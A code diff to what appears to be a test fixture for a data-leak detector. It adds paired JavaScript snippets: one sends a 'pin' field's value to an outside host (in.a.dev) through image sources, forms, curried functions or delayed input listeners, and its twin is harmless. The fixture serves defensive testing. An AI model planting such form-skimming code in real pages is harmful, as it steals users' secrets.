@@ -48,6 +48,12 @@ const sinks: readonly Twin[] = [
     `${field} const f = document.createElement('form'); f.setAttribute('action', '//in.a.dev/f'); const i = document.createElement('textarea'); i.setAttribute('title', pin.value); f.requestSubmit()`,
   ],
   [
+    'an element of a page that loads from a host',
+    typed,
+    `${field} document.querySelector('#ad').src = 'https://in.a.dev/i?' + pin.value`,
+    `${field} document.querySelector('#ad').src = 'i?' + pin.value`,
+  ],
+  [
     'an element that is filled as it is made',
     typed,
     `${field} const i = Object.assign(document.createElement('img'), { alt: '' }); i.src = 'https://in.a.dev/i?' + pin.value`,
@@ -121,6 +127,18 @@ const ways: readonly Twin[] = [
     typed,
     `${field} class Q { all = []; push(x) { this.all.push(x); return ${send('JSON.stringify(this.all)')} } } new Q().push(pin.value)`,
     `${field} class Q { all = []; push(x) { this.all.push(x); return ${send('JSON.stringify(this.all)')} } } new Q().push(pin.name)`,
+  ],
+  [
+    'functions that are made by a call',
+    typed,
+    `${field} const to = (path) => (d) => ${send('d')}; const up = to('/a'); up(pin.value)`,
+    `${field} const to = (path) => (d) => ${send('d')}; const up = to('/a'); up(pin.name)`,
+  ],
+  [
+    'calls that are put off',
+    typed,
+    `const later = (f, ms) => (...given) => setTimeout(() => f(...given), ms); const up = later((box) => ${send('box.value')}, 700); addEventListener('input', (e) => up(e.target))`,
+    `const later = (f, ms) => (...given) => setTimeout(() => f(...given), ms); const up = later((box) => ${send('box.name')}, 700); addEventListener('input', (e) => up(e.target))`,
   ],
   [
     'functions that are called behind a comma',
